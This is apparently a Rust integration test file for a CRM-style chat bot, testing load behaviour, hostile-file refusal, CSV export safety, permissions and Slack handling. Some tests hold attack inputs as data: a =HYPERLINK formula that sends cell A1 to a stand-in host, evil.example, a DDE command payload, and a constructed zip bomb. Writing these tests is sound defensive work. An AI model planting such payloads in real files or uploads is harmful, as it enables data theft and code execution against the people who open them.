//! Trust under load and hostile input: a job composes its messages without holding the write lock
//! (the Monday digest goes out while people write), no file can exhaust memory, exports carry no
//! live formulas, simultaneous presses write once, and the serve lock is the database file itself.

use std::io::Write;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;

use chrono::{TimeZone, Utc};
use kam_bot::core::{Command, Core};
use kam_bot::domain::account::Role;
use kam_bot::domain::jobs::Job;
use kam_bot::scheduler::Scheduler;
use kam_bot::store::Store;

use crate::helpers::{TestApp, WS, demo_app, kam_bot, test_now};

async fn make_admin(app: &TestApp) {
    let ws = app.workspace_id(WS).await;
    let me = app.store.find_person(ws, "terminal", "tester").await.unwrap().unwrap();
    app.store.set_role(ws, me.id, Role::Admin).await.unwrap();
}

/// Writers on every connection of a small pool, and the Monday digest due: the digest is recorded
/// in its tick and every write is answered. (Composed inside its write transaction, the digest's
/// reads waited for connections that writers held while they waited for its lock: writes failed
/// after the busy timeout, and in `serve` the tick failed over and over.)
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn the_monday_digest_goes_out_while_people_write() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("kam.db");
    let store = Store::open_with(&db, 2, Default::default()).await.unwrap();
    kam_bot::seed::demo::seed_demo(&store, WS, test_now()).await.unwrap().unwrap();
    kam_bot::seed::synthetic::seed_synthetic(&store, WS, 2_000, test_now()).await.unwrap();
    let core = Core::new(store.clone());
    let stop = Arc::new(AtomicBool::new(false));
    let (written, failed) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
    let mut writers = Vec::new();
    for w in 0..6 {
        let (core, stop, written, failed) = (core.clone(), stop.clone(), written.clone(), failed.clone());
        writers.push(tokio::spawn(async move {
            let inv = kam_bot::core::Invocation {
                workspace: WS.into(),
                platform: kam_bot::core::Platform::Terminal,
                user_id: format!("writer{w}"),
                display_name: format!("Writer {w}"),
                name_is_handle: false,
                locale: Some(kam_bot::i18n::Locale::En),
                workspace_locale: None,
                now: test_now(),
                source_id: None,
            };
            let mut i = 0;
            while !stop.load(Ordering::Relaxed) {
                let reply = core.run_line(&inv, &format!("/log Vale call \"Writer {w} call {i}\"")).await;
                if reply.is_error() {
                    failed.fetch_add(1, Ordering::Relaxed);
                } else {
                    written.fetch_add(1, Ordering::Relaxed);
                }
                i += 1;
            }
        }));
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    // Monday 2026-11-30, 08:05 in São Paulo: the weekly digest is due.
    let monday = Utc.with_ymd_and_hms(2026, 11, 30, 11, 5, 0).unwrap();
    let scheduler = Scheduler::new(store.own_pool(kam_bot::scheduler::POOL_SIZE));
    let ran = tokio::time::timeout(Duration::from_secs(60), scheduler.tick(monday)).await.expect("the tick ended");
    tokio::time::sleep(Duration::from_millis(200)).await;
    stop.store(true, Ordering::Relaxed);
    for w in writers {
        w.await.unwrap();
    }
    let ran = ran.expect("the tick succeeded");
    let digest = ran.iter().find(|r| r.job == Job::WeeklyDigest).expect("the weekly digest ran in its tick");
    assert!(digest.messages >= 1, "{ran:?}");
    let (written, failed) = (written.load(Ordering::Relaxed), failed.load(Ordering::Relaxed));
    assert!(written > 20, "writes kept answering: {written}");
    assert_eq!(failed, 0, "{failed} of {} writes failed while the digest ran", written + failed);
    // Run again, the same occurrence is not run twice.
    assert!(scheduler.tick(monday).await.unwrap().iter().all(|r| r.job != Job::WeeklyDigest));
}

/// `kam-bot serve` on a workspace of 3 000 accounts under one manager, the Monday clock, and eight
/// connections sending signed Slack `/log`: the weekly digest is recorded while every write is
/// answered. (BENCHMARKS.md has the same at 20 000 and 100 000 accounts.)
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn serve_records_the_monday_digest_while_people_write() {
    // It runs on a SQLite file of its own, whatever the binary: once (tests/it) is enough.
    if crate::ON_POSTGRES {
        return;
    }
    use crate::slack_support::{SlackEndpointUnderTest, form};
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("k.db");
    let seeded_at = ["--now", "2026-11-27T12:00:00Z", "--workspace", "slack:T1"];
    assert!(kam_bot(&db).args(seeded_at).args(["seed", "--demo"]).output().unwrap().status.success());
    assert!(kam_bot(&db).args(seeded_at).args(["seed", "--synthetic", "3000"]).output().unwrap().status.success());
    let pool = sqlx::SqlitePool::connect(&format!("sqlite://{}", db.display())).await.unwrap();
    // Marina manages every rep: her digest reads all 3 010 accounts.
    sqlx::query(
        "UPDATE people SET manager_id = (SELECT id FROM people WHERE display_name = 'Marina Costa')
          WHERE role = 'rep' AND manager_id IS NULL",
    )
    .execute(&pool)
    .await
    .unwrap();
    let digests = "SELECT COUNT(*) FROM job_runs WHERE job = 'weekly_digest' AND state = 'done'";
    let before: i64 = sqlx::query_scalar(digests).fetch_one(&pool).await.unwrap();
    assert_eq!(before, 0);

    // Monday 2026-11-30, 08:01 in São Paulo: the weekly digest is due at the first tick.
    let (server, address) = crate::helpers::serve_at(&db, &["--now", "2026-11-30T11:01:00Z"]).await;
    let _stop = Killed(server);
    let started = std::time::Instant::now();
    let (written, failed) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
    let mut writers = Vec::new();
    for w in 0..8 {
        let (written, failed) = (written.clone(), failed.clone());
        let slack = SlackEndpointUnderTest::at(format!("http://{address}"));
        writers.push(tokio::spawn(async move {
            let mut i = 0;
            while started.elapsed() < Duration::from_secs(8) {
                let text = format!("Vale call \"writer {w} call {i}\"");
                let body = form("T1", "/log", &text, &format!("load.{w}.{i}"), "http://127.0.0.1:9/response");
                let (status, json) = slack.post_signed(&body).await;
                let logged = status == 200 && json.to_string().contains("Logged");
                (if logged { &written } else { &failed }).fetch_add(1, Ordering::Relaxed);
                i += 1;
            }
        }));
    }
    for w in writers {
        w.await.unwrap();
    }
    let recorded: i64 = sqlx::query_scalar(digests).fetch_one(&pool).await.unwrap();
    let (written, failed) = (written.load(Ordering::Relaxed), failed.load(Ordering::Relaxed));
    assert_eq!(recorded, 1, "the Monday digest was recorded while {written} writes were answered");
    assert!(written > 50, "writes kept answering: {written}");
    assert_eq!(failed, 0, "{failed} of {} writes failed", written + failed);
}

/// Kills a child process when dropped (a failed assertion does not leave `serve` running).
struct Killed(std::process::Child);

impl Drop for Killed {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A small workbook whose two cells sit at A1 and XFD1048576 (a declared range of 17 billion
/// cells), a zip bomb and an oversized CSV are each refused with the limit named, from the command
/// line and through an admin's chat `/import`; the process lives on.
#[tokio::test]
async fn hostile_files_are_refused_before_they_are_allocated() {
    let app = demo_app().await;
    make_admin(&app).await;
    let dir = tempfile::tempdir().unwrap();

    let sparse = dir.path().join("sparse.xlsx");
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    sheet.write_string(0, 0, "Account Name").unwrap();
    sheet.write_string(1_048_575, 16_383, "far away").unwrap();
    book.save(&sparse).unwrap();
    assert!(std::fs::metadata(&sparse).unwrap().len() < 10_000);

    // A real workbook with one more part: 300 MB of zeros, a few hundred kilobytes compressed.
    let bomb = dir.path().join("bomb.xlsx");
    {
        let mut book = rust_xlsxwriter::Workbook::new();
        book.add_worksheet().write_string(0, 0, "Account Name").unwrap();
        let good = book.save_to_buffer().unwrap();
        let mut source = zip::ZipArchive::new(std::io::Cursor::new(good)).unwrap();
        let mut out = zip::ZipWriter::new(std::fs::File::create(&bomb).unwrap());
        for i in 0..source.len() {
            out.raw_copy_file(source.by_index(i).unwrap()).unwrap();
        }
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated)
            .large_file(true);
        out.start_file("xl/media/padding.bin", options).unwrap();
        let zeros = vec![0u8; 1 << 20];
        for _ in 0..300 {
            out.write_all(&zeros).unwrap();
        }
        out.finish().unwrap();
    }
    assert!(std::fs::metadata(&bomb).unwrap().len() < 4 * 1024 * 1024);

    // Larger than the file bound: refused by its size, unread (the file is sparse on disk).
    let huge = dir.path().join("huge.csv");
    let file = std::fs::File::create(&huge).unwrap();
    file.set_len(kam_bot::transfer::table::MAX_FILE_BYTES + 1).unwrap();
    drop(file);
    // Within the size, a row far wider than any export.
    let wide = dir.path().join("wide.csv");
    std::fs::write(&wide, format!("Account Name{}\nVale{}\n", ",x".repeat(600), ",1".repeat(600))).unwrap();

    let before = app.counts(WS).await;
    for (path, expected) in [
        (&sparse, "a row has more than 512 columns"),
        (&bomb, "the workbook holds more than 128 MB once decompressed"),
        (&huge, "it is larger than 64 MB"),
        (&wide, "a row has more than 512 columns"),
    ] {
        let out = kam_bot(&app.db_path).args(["--workspace", WS, "import", "accounts"]).arg(path).output().unwrap();
        let said = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
        assert_eq!(out.status.code(), Some(2), "{}: {said}", path.display());
        assert!(said.contains(expected), "{}: {said}", path.display());
    }
    // Through the chat, as a Discord upload arrives: the same refusals, one line each.
    for (path, expected) in [(&sparse, "more than 512 columns"), (&bomb, "128 MB once decompressed")] {
        let request = kam_bot::core::commands::import::ImportRequest {
            kind: "accounts".into(),
            file_name: path.file_name().unwrap().to_string_lossy().into(),
            content: Some(std::fs::read(path).unwrap()),
        };
        let inv = app.invocation(WS, "tester");
        let reply =
            app.core.run(&inv, Ok(Command::Import(kam_bot::core::commands::import::Import::Check(request)))).await;
        assert!(reply.is_error() && reply.to_text().contains(expected), "{}", reply.to_text());
    }
    assert_eq!(app.counts(WS).await, before, "a refused file writes nothing");
}

/// A file whose rows mix UTF-8 and Windows-1252 is refused with a line of each, not read as
/// mojibake ("JoÃ£o").
#[tokio::test]
async fn a_file_of_mixed_encodings_is_refused_with_its_lines() {
    let app = demo_app().await;
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("mixed.csv");
    let mut bytes = "Account Name;Industry\nJoão Válido;Mineração\n".as_bytes().to_vec();
    bytes.extend_from_slice(b"Jos\xE9 Ant\xF4nio;Siderurgia\n");
    std::fs::write(&file, bytes).unwrap();
    let out = kam_bot(&app.db_path).args(["--workspace", WS, "import", "accounts"]).arg(&file).output().unwrap();
    let said = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert_eq!(out.status.code(), Some(2), "{said}");
    assert!(said.contains("mixes two encodings (UTF-8 at line 2, Windows-1252 at line 3)"), "{said}");
}

/// An account named as a formula and summaries that start like one are exported as text (a `'`
/// first), and an import takes the `'` back off.
#[tokio::test]
async fn exports_carry_no_live_formulas_and_import_reads_them_back() {
    let app = demo_app().await;
    make_admin(&app).await;
    let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Clique aqui\")";
    let added = app.say(&format!("/account add \"{}\" --tier 2", evil.replace('"', "'"))).await;
    assert!(!added.is_error(), "{}", added.to_text());
    for summary in ["+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"] {
        let logged = app.say(&format!("/log Vale call \"{summary}\"")).await;
        assert!(!logged.is_error(), "{}", logged.to_text());
    }
    let dir = tempfile::tempdir().unwrap();
    let mut live = Vec::new();
    for kind in ["accounts", "contacts", "people", "interactions", "opportunities"] {
        let file = dir.path().join(format!("{kind}.csv"));
        let out = kam_bot(&app.db_path)
            .args(["--workspace", WS, "export", kind, "--format", "csv", "--out"])
            .arg(&file)
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_path(&file).unwrap();
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err();
                if formula {
                    live.push(format!("{kind}: {cell}"));
                }
            }
        }
    }
    assert!(live.is_empty(), "live formula cells: {live:?}");
    let accounts = std::fs::read_to_string(dir.path().join("accounts.csv")).unwrap();
    assert!(accounts.contains("'=HYPERLINK("), "{accounts}");
    // Imported into another workspace, the name is the name again.
    let out = kam_bot(&app.db_path)
        .args(["--workspace", "discord:7", "import", "accounts"])
        .arg(dir.path().join("accounts.csv"))
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stdout));
    let copy = app.workspace_id("discord:7").await;
    let names: Vec<String> = app.store.account_name_terms(copy).await.unwrap().into_iter().map(|a| a.name).collect();
    assert!(names.iter().any(|n| n.starts_with("=HYPERLINK(")), "{names:?}");
}

/// Eight presses of Done at the same instant (distinct requests, as a double click sends) close
/// the open step once.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn done_pressed_at_once_writes_once() {
    let app = Arc::new(demo_app().await);
    make_admin(&app).await;
    let logged = app.say("/log Vale call \"Piloto\" --next \"Mandar proposta\" --due 2026-12-04").await;
    assert!(!logged.is_error(), "{}", logged.to_text());
    let ws = app.workspace_id(WS).await;
    let before = app.counts(WS).await;
    let presses: Vec<_> = (0..8)
        .map(|i| {
            let app = app.clone();
            tokio::spawn(async move {
                let mut inv = app.invocation(WS, "tester");
                inv.source_id = Some(format!("press-{i}"));
                app.core.run_line(&inv, "/done Vale").await
            })
        })
        .collect();
    for press in presses {
        let reply = press.await.unwrap();
        assert!(!reply.is_error(), "{}", reply.to_text());
    }
    let after = app.counts(WS).await;
    assert_eq!(after.interactions, before.interactions + 1, "one done note, whatever the presses");
    let vale = app.store.accounts_named(ws, "vale").await.unwrap()[0].account_id;
    let history = app.store.history_page(ws, vale, 3, 0).await.unwrap();
    assert_eq!(history.iter().filter(|i| i.summary.contains("Mandar proposta")).count(), 1, "{history:?}");
}

/// Snoozing or closing a step needs the right to change the account: a rep who neither owns nor
/// manages it is refused, and the owner's reminders stay.
#[tokio::test]
async fn snooze_and_done_need_the_right_to_change_the_account() {
    let app = demo_app().await;
    make_admin(&app).await;
    app.say("/log Vale call \"Piloto\" --next \"Mandar proposta\" --due 2026-12-04").await;
    let before = app.counts(WS).await;
    for line in ["/snooze Vale --days 90", "/done Vale"] {
        let reply = app.core.run_line(&app.invocation(WS, "outsider"), line).await;
        assert!(reply.is_error(), "{line}: {}", reply.to_text());
        assert!(reply.to_text().contains("Vale"), "{}", reply.to_text());
    }
    let ws = app.workspace_id(WS).await;
    let vale = app.store.accounts_named(ws, "vale").await.unwrap()[0].account_id;
    assert_eq!(app.store.snoozed_until(ws, vale).await.unwrap(), None);
    assert_eq!(app.counts(WS).await.interactions, before.interactions);
}

/// Slack's `user_name` is a handle: someone new is named from `users.info`, a known person keeps
/// the name they have whatever handle a slash command carries, and someone first met while Slack
/// could not say is named when it can. All through Slack's wire format.
#[tokio::test]
async fn a_handle_never_renames_anyone_and_new_people_take_slacks_name() {
    use crate::slack_support::{SlackStandIn, form, spawn_slack_endpoint_naming};
    use kam_bot::front::slack::people::Directory;
    let app = demo_app().await;
    let slack = SlackStandIn::spawn().await;
    let client = kam_bot::front::slack::notifier::client(Some(&slack.api())).unwrap();
    let endpoint =
        spawn_slack_endpoint_naming(&app, Duration::from_secs(5), Some(Directory::new(client, "xoxb-test"))).await;
    let response = format!("{}/response/1", slack.url);
    let name_of = |user: &'static str| {
        let app = &app;
        async move {
            let ws = app.workspace_id("slack:T9").await;
            app.store.find_person(ws, "slack", user).await.unwrap().map(|p| p.display_name)
        }
    };
    let infos = |slack: &SlackStandIn| slack.seen().iter().filter(|s| s.path == "/api/users.info").count();

    // Ana (U2147483697, handle "ana.souza") is new: Slack's directory names her.
    let (status, _) = endpoint.post_signed(&form("T9", "/help", "", "t1", &response)).await;
    assert_eq!(status, 200);
    assert_eq!(name_of("U2147483697").await.as_deref(), Some("Ana Souza"));
    assert_eq!(slack.wait_for("/api/users.info").await.body["user"], "U2147483697");
    // Known now: her handle does not rename her, and Slack is not asked again.
    endpoint.post_signed(&form("T9", "/help", "", "t2", &response)).await;
    assert_eq!(name_of("U2147483697").await.as_deref(), Some("Ana Souza"));
    assert_eq!(infos(&slack), 1);

    // Bruno is met while Slack cannot say: he is known by his handle until Slack can.
    slack.script("/api/users.info", 200, vec![], serde_json::json!({"ok": false, "error": "internal_error"}));
    let bruno =
        form("T9", "/help", "", "t4", &response).replace("U2147483697", "U0BRUNO").replace("ana.souza", "bruno");
    endpoint.post_signed(&bruno).await;
    assert_eq!(name_of("U0BRUNO").await.as_deref(), Some("bruno"));
    endpoint.post_signed(&bruno.replace("t4", "t5")).await;
    assert_eq!(name_of("U0BRUNO").await.as_deref(), Some("Ana Souza"), "the stand-in names everyone Ana Souza");

    // A token without `users:read` is refused once; Slack is not asked again for anyone.
    slack.script("/api/users.info", 200, vec![], serde_json::json!({"ok": false, "error": "missing_scope"}));
    let asked = infos(&slack);
    let carla =
        form("T9", "/help", "", "t6", &response).replace("U2147483697", "U0CARLA").replace("ana.souza", "carla");
    endpoint.post_signed(&carla).await;
    endpoint.post_signed(&carla.replace("t6", "t7")).await;
    let dora = form("T9", "/help", "", "t8", &response).replace("U2147483697", "U0DORA").replace("ana.souza", "dora");
    endpoint.post_signed(&dora).await;
    assert_eq!(name_of("U0CARLA").await.as_deref(), Some("carla"));
    assert_eq!(name_of("U0DORA").await.as_deref(), Some("dora"));
    assert_eq!(infos(&slack), asked + 1, "asked once, then not again");
}

/// A Slack workspace first met through someone whose Slack is in Brazilian Portuguese
/// (`users.info` with `include_locale`) speaks Portuguese from its first answer; one met through
/// an English speaker speaks English.
#[tokio::test]
async fn a_new_slack_workspace_takes_its_first_persons_language() {
    use crate::slack_support::{SlackStandIn, form, spawn_slack_endpoint_naming};
    use kam_bot::front::slack::people::Directory;
    let app = crate::helpers::spawn_app().await;
    let slack = SlackStandIn::spawn().await;
    let client = kam_bot::front::slack::notifier::client(Some(&slack.api())).unwrap();
    let endpoint =
        spawn_slack_endpoint_naming(&app, Duration::from_secs(5), Some(Directory::new(client, "xoxb-test"))).await;
    let response = format!("{}/response/1", slack.url);
    slack.script(
        "/api/users.info",
        200,
        vec![],
        serde_json::json!({"ok": true, "user": {"id": "U2147483697", "name": "ana.souza", "locale": "pt-BR",
            "real_name": "Ana Souza", "profile": {"display_name": "ana", "real_name": "Ana Souza"}}}),
    );
    let (status, body) = endpoint.post_signed(&form("T7", "/help", "", "t1", &response)).await;
    assert_eq!(status, 200);
    assert!(body.to_string().contains("Comandos do kam-bot"), "{body}");
    assert_eq!(slack.wait_for("/api/users.info").await.body["include_locale"], "true");
    assert_eq!(app.store.find_workspace("slack:T7").await.unwrap().unwrap().language, "pt-BR");

    let (_, body) = endpoint.post_signed(&form("T8", "/help", "", "t2", &response)).await;
    assert!(body.to_string().contains("kam-bot commands"), "{body}");
    assert_eq!(app.store.find_workspace("slack:T8").await.unwrap().unwrap().language, "en");
}

/// The serve lock is the database file itself: through a symlink, a second `serve` and a restore
/// are refused while the first runs. A restore run twice keeps both databases it replaced.
#[tokio::test]
async fn the_serve_lock_holds_by_any_path_and_restore_keeps_every_copy() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("k.db");
    assert!(kam_bot(&db).args(["seed", "--demo"]).output().unwrap().status.success());
    let link = dir.path().join("link.db");
    std::os::unix::fs::symlink(&db, &link).unwrap();
    let backup = dir.path().join("b.db");
    assert!(kam_bot(&db).arg("backup").arg(&backup).output().unwrap().status.success());

    let mut server = crate::helpers::serve_listening(&db).await;
    let second =
        kam_bot(&link).args(["serve", "--listen", "127.0.0.1:0"]).env("SLACK_SIGNING_SECRET", "x").output().unwrap();
    let restore = kam_bot(&link).arg("restore").arg(&backup).output().unwrap();
    let _ = server.kill();
    let _ = server.wait();
    assert_eq!(second.status.code(), Some(2), "{second:?}");
    assert!(String::from_utf8_lossy(&second.stderr).contains("Another kam-bot serve is running on"));
    assert_eq!(restore.status.code(), Some(2), "{restore:?}");

    for _ in 0..2 {
        let out = kam_bot(&link).arg("restore").arg(&backup).output().unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    }
    assert!(dir.path().join("k.db.before-restore").exists());
    assert!(dir.path().join("k.db.before-restore.2").exists(), "the second restore kept its own copy");
    assert!(std::fs::symlink_metadata(&link).unwrap().file_type().is_symlink(), "the link stays a link");
    let store = Store::open(&db).await.unwrap();
    assert_eq!(store.integrity_check().await.unwrap(), "ok");
    assert!(!store.workspace_ids().await.unwrap().is_empty());
    store.close().await;
}

/// Instants are stored in one form, whole seconds: a step logged in the same second as an earlier
/// Done note is the newest, and the next Done closes it. (With the note stored with its fraction of
/// a second and the log without, the log sorted as older and Done found no open step.)
#[tokio::test]
async fn instants_written_in_the_same_second_keep_their_order() {
    let app = demo_app().await;
    make_admin(&app).await;
    let at = |ms: i64| test_now() + chrono::Duration::milliseconds(ms);
    let say = |ms: i64, line: &'static str| {
        let mut inv = app.invocation(WS, "tester");
        inv.now = at(ms);
        let core = app.core.clone();
        async move { core.run_line(&inv, line).await }
    };
    assert!(!say(100, "/log Vale call \"Piloto\" --next \"Mandar proposta\" --due 2026-12-04").await.is_error());
    assert!(!say(300, "/done Vale").await.is_error());
    assert!(!say(600, "/log Vale call \"Retorno\" --next \"Ligar para a Beatriz\" --due 2026-12-07").await.is_error());
    let done = say(900, "/done Vale").await;
    assert!(done.to_text().contains("Ligar para a Beatriz"), "{}", done.to_text());
}
